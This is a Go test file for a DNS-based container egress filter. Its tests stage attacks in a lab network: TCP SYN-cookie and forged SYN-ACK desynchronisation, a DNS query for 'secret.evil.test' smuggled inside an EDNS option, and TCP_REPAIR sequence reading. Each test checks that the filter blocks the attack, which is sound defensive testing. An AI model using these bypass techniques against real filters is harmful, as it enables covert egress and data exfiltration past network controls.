package main_test

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"os"
	"slices"
	"testing"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

// tcpForwardRules are forwardRules, with DNS over TCP on the same queues.
func tcpForwardRules(f family) []string {
	return append([]string{
		fmt.Sprintf("-A FORWARD -p tcp --sport 53 -j NFQUEUE --queue-num %d", inboundQueue(f)),
		fmt.Sprintf("-A FORWARD -p tcp --dport 53 -j NFQUEUE --queue-num %d", dnsQueue(0, f)),
	}, forwardRules(f)...)
}

// segments4 hears every TCP segment that comes to a namespace by IPv4.
func (n *netns) segments4(t *testing.T) (next func(of func(seq, ack uint32, flags tcpFlags, port uint16) bool) (seq, ack uint32)) {
	t.Helper()
	var heard *os.File
	n.inside(t, func() error {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, unix.IPPROTO_TCP)
		heard = os.NewFile(uintptr(fd), "segments")
		return err
	})
	t.Cleanup(func() { heard.Close() })
	return func(of func(uint32, uint32, tcpFlags, uint16) bool) (uint32, uint32) {
		t.Helper()
		heard.SetReadDeadline(time.Now().Add(patience))
		buf := make([]byte, 70000)
		for {
			size, err := heard.Read(buf)
			if err != nil {
				t.Fatalf("no such segment came: %v", err)
			}
			b := buf[:size]
			tcp := b[int(b[0]&15)*4:]
			seq, ack := binary.BigEndian.Uint32(tcp[4:]), binary.BigEndian.Uint32(tcp[8:])
			if of(seq, ack, tcpFlags(tcp[13]), binary.BigEndian.Uint16(tcp[2:])) {
				return seq, ack
			}
		}
	}
}

// TestTCPSynCookies: a server that answers with SYN cookies has no state until the
// handshake's last segment, and takes the place where the client's stream
// begins from that segment alone: any two numbers whose difference is that of the
// cookie will do. So a container that sends raw segments begins its stream in
// the middle of an allowed query.
func TestTCPSynCookies(t *testing.T) {
	t.Parallel()
	f := families[0]
	const invalid = "always, and a rule drops what conntrack calls invalid"
	for _, mode := range []string{invalid, "always", "when the backlog is full, as by default"} {
		t.Run(mode, func(t *testing.T) {
			l := newLab(t)
			guest := l.router(t)
			guest.feed(t, "*filter\n-A OUTPUT -p tcp --tcp-flags RST RST -j DROP\nCOMMIT\n", "iptables-restore")
			if mode == "always" || mode == invalid {
				l.server.sysctl(t, "ipv4/tcp_syncookies", "2")
			} else {
				l.server.sysctl(t, "core/somaxconn", "10") // BIND's tcp-listen-queue
			}
			server := l.tcpServer(f.resolver, tcpZone(t, f))
			c := allowing("example.com")
			c.resolvers = []any{f.resolver}
			l.start(c)
			if mode == invalid {
				l.rules(func(f family) []string {
					return append([]string{"-A FORWARD -p tcp --dport 53 -m conntrack --ctstate INVALID -j DROP"}, tcpForwardRules(f)...)
				})
			} else {
				l.rules(tcpForwardRules)
			}

			next := guest.segments4(t)
			send := func(port uint16, s segment) {
				guest.sendRaw(t, s.packet(t, netip.AddrPortFrom(f.guest, port), f.dns()))
			}
			if mode != "always" && mode != invalid {
				for i := range uint16(20) {
					send(6000+i, segment{seq: 1, flags: flagSYN})
				}
				time.Sleep(200 * time.Millisecond)
			}
			const port, isn = 4321, 1_000_000
			send(port, segment{seq: isn, flags: flagSYN})
			its, _ := next(func(_, _ uint32, flags tcpFlags, to uint16) bool { return flags == synAck && to == port })

			// One allowed query, in whose EDNS option stands another.
			hidden := framed(t, question("secret.evil.test", typeOf(f)))
			outer := question("www.example.com", typeOf(f))
			outer.SetEdns0(1232, false)
			outer.IsEdns0().Option = append(outer.IsEdns0().Option, &dns.EDNS0_LOCAL{Code: 65001, Data: slices.Clone(hidden)})
			wire := framed(t, outer)
			at := uint32(len(wire) - len(hidden))

			send(port, segment{seq: isn + 1 + at, ack: its + 1 + at, flags: flagACK})
			time.Sleep(50 * time.Millisecond)
			send(port, segment{seq: isn + 1, ack: its + 1 + at, flags: pushAck, data: wire})
			if mode != invalid {
				l.daemon.sees(t, eventRequest, fields{"verdict": "drop", "reason": "TCP segment that acknowledges what did not pass"})
			}
			// The next place but two has a valid cookie too, of another segment size.
			const other = port + 1
			send(other, segment{seq: isn, flags: flagSYN})
			its, _ = next(func(_, _ uint32, flags tcpFlags, to uint16) bool { return flags == synAck && to == other })
			send(other, segment{seq: isn + 1 + 2, ack: its + 1, flags: flagACK})
			l.daemon.sees(t, eventRequest, fields{"verdict": "drop", "reason": "TCP segment before the server has acknowledged anything"})
			send(other, segment{seq: isn + 1, ack: its + 1, flags: pushAck, data: wire})
			l.daemon.sees(t, eventRequest, fields{"name": "www.example.com", "verdict": "accept"})
			time.Sleep(300 * time.Millisecond)
			if server.asked("secret.evil.test") > 0 {
				t.Errorf("the server was asked for secret.evil.test: it got %x", server.got(0))
			}
			l.daemon.never(t, eventRequest, fields{"name": "secret.evil.test"})
		})
	}
}

// TestTCPForgedSynAck: a container forges the server's SYN-ACK out of its own
// interface. It is dropped, but the parser of responses has begun anew with it,
// so that to the filter the server's stream begins where the container wants:
// in the middle of an answer.
func TestTCPForgedSynAck(t *testing.T) {
	t.Parallel()
	f := families[0]
	l := newLab(t)
	guest := l.router(t)
	const id = 0x4242
	inner := question("www.example.com", typeOf(f))
	inner.Id = id
	forged := new(dns.Msg).SetReply(inner)
	forged.Compress = true
	forged.Answer = rrs(t, fmt.Sprintf("www.example.com. 60 IN %s %v", f.record(), f.web(9)))
	embedded := framed(t, forged)
	at := 0
	l.tcpServer(f.resolver, func(conn net.Conn, q *dns.Msg) {
		if q.Question[0].Qtype != dns.TypeTXT {
			return // slow
		}
		// Whoever may write a TXT record may not write an address.
		m := new(dns.Msg).SetReply(q)
		txt := &dns.NULL{Hdr: dns.RR_Header{Name: q.Question[0].Name, Rrtype: dns.TypeNULL, Class: dns.ClassINET, Ttl: 60}, Data: string(embedded)}
		m.Answer = append(m.Answer, txt)
		conn.Write(framed(t, m))
	})
	c := allowing("example.com")
	c.resolvers = []any{f.resolver}
	l.start(c)
	l.rules(tcpForwardRules)

	conn, err := guest.dial(t, f.guest, f.dns(), patience)
	if err != nil {
		t.Fatal(err)
	}
	g := forgerOf(t, conn, f)
	// The place of the embedded message in the answer.
	ask := question("data.example.com", dns.TypeTXT)
	m := new(dns.Msg).SetReply(ask)
	m.Answer = append(m.Answer, &dns.NULL{Hdr: dns.RR_Header{Name: "data.example.com.", Rrtype: dns.TypeNULL, Class: dns.ClassINET, Ttl: 60}, Data: string(embedded)})
	at = len(framed(t, m)) - len(embedded)

	synack := segment{seq: g.ack + uint32(at) - 1, ack: g.seq, flags: synAck}
	guest.sendFrame(t, "eth0", l.client.hardwareAddr(t, "veth0"), synack.packet(t, f.dns(), g.from))
	l.daemon.sees(t, eventResponse, fields{"verdict": "drop", "reason": "wrong interface"})
	conn.Write(framed(t, inner))
	l.daemon.sees(t, eventRequest, fields{"name": "www.example.com", "verdict": "accept"})
	conn.Write(framed(t, ask))
	l.daemon.sees(t, eventRequest, fields{"name": "data.example.com", "verdict": "accept"})
	// The container says that it has what the filter dropped; the server goes on behind it.
	for range 20 {
		blind := segment{seq: g.seq + uint32(len(framed(t, inner))+len(framed(t, ask))), ack: g.ack + uint32(at), flags: flagACK}
		guest.sendRaw(t, blind.packet(t, g.from, g.to))
		time.Sleep(100 * time.Millisecond)
	}
	if got := guest.curl(t, 0, f.web(9), 0.5); got != "" {
		t.Errorf("the container reached an address of its choice: %q", got)
	}
	l.daemon.never(t, eventResponse, fields{"granted": f.web(9)})
}

// TestTCPForgedAddress puts the two together: a container has any address
// opened, with one allowed name and an honest resolver.
func TestTCPForgedAddress(t *testing.T) {
	t.Parallel()
	f := families[0]
	l := newLab(t)
	guest := l.router(t)
	guest.feed(t, "*filter\n-A OUTPUT -p tcp --tcp-flags RST RST -j DROP\nCOMMIT\n", "iptables-restore")
	l.server.sysctl(t, "ipv4/tcp_syncookies", "2")

	// What stands in the zone of somebody else: an answer to the query that
	// the filter believes has left.
	hidden := question("data.evil.test", dns.TypeNULL)
	outer := question("www.example.com", typeOf(f))
	outer.SetEdns0(1232, false)
	outer.IsEdns0().Option = append(outer.IsEdns0().Option, &dns.EDNS0_LOCAL{Code: 65001, Data: framed(t, hidden)})
	forged := new(dns.Msg).SetReply(outer)
	forged.Extra, forged.Compress = nil, true
	forged.Answer = rrs(t, fmt.Sprintf("www.example.com. 60 IN %s %v", f.record(), f.web(9)))
	embedded := framed(t, forged)
	evil := func(q *dns.Msg) []byte {
		m := new(dns.Msg).SetReply(q)
		m.Answer = append(m.Answer, &dns.NULL{Hdr: dns.RR_Header{Name: q.Question[0].Name, Rrtype: dns.TypeNULL, Class: dns.ClassINET, Ttl: 60}, Data: string(embedded)})
		return framed(t, m)
	}
	l.tcpServer(f.resolver, func(conn net.Conn, q *dns.Msg) { conn.Write(evil(q)) })
	c := allowing("example.com")
	c.resolvers = []any{f.resolver}
	l.start(c)
	l.rules(tcpForwardRules)

	next := guest.segments4(t)
	const port, isn = 4321, 1_000_000
	at := netip.AddrPortFrom(f.guest, port)
	send := func(s segment) { guest.sendRaw(t, s.packet(t, at, f.dns())) }
	send(segment{seq: isn, flags: flagSYN})
	its, _ := next(func(_, _ uint32, flags tcpFlags, to uint16) bool { return flags == synAck && to == port })

	wire := framed(t, outer)
	here := uint32(len(wire) - len(framed(t, hidden)))      // the server's stream of queries begins at this place
	there := here + uint32(len(evil(hidden))-len(embedded)) // the filter's stream of answers
	synack := segment{seq: its + there, ack: isn + 1, flags: synAck}
	guest.sendFrame(t, "eth0", l.client.hardwareAddr(t, "veth0"), synack.packet(t, f.dns(), at))
	l.daemon.sees(t, eventResponse, fields{"verdict": "drop", "reason": "wrong interface"})
	send(segment{seq: isn + 1 + here, ack: its + 1 + here, flags: flagACK})
	send(segment{seq: isn + 1, ack: its + 1 + here, flags: pushAck, data: wire})
	for range 20 { // the container has what the filter dropped; the server goes on behind it
		time.Sleep(100 * time.Millisecond)
		send(segment{seq: isn + 1 + uint32(len(wire)), ack: its + 1 + there, flags: flagACK})
	}
	if got := guest.curl(t, 0, f.web(9), 0.5); got != "" {
		t.Errorf("the container reached an address of its choice: %q", got)
	}
	l.daemon.never(t, eventResponse, fields{"granted": f.web(9)})
}

// forgerOf is a forger in a connection that was made elsewhere.
func forgerOf(t *testing.T, conn net.Conn, f family) *forger {
	t.Helper()
	g := &forger{from: netip.MustParseAddrPort(conn.LocalAddr().String()), to: f.dns()}
	raw, err := conn.(*net.TCPConn).SyscallConn()
	if err != nil {
		t.Fatal(err)
	}
	var failed error
	err = raw.Control(func(fd uintptr) {
		const on, offSilently, receiveQueue, sendQueue = 1, -1, 1, 2
		set := func(option, value int) {
			if err := unix.SetsockoptInt(int(fd), unix.SOL_TCP, option, value); err != nil {
				failed = err
			}
		}
		get := func(queue int) uint32 {
			set(unix.TCP_REPAIR_QUEUE, queue)
			n, err := unix.GetsockoptInt(int(fd), unix.SOL_TCP, unix.TCP_QUEUE_SEQ)
			if err != nil {
				failed = err
			}
			return uint32(n)
		}
		set(unix.TCP_REPAIR, on)
		g.seq, g.ack = get(sendQueue), get(receiveQueue)
		set(unix.TCP_REPAIR, offSilently)
	})
	if err != nil || failed != nil {
		t.Fatalf("TCP_REPAIR: %v, %v", err, failed)
	}
	return g
}
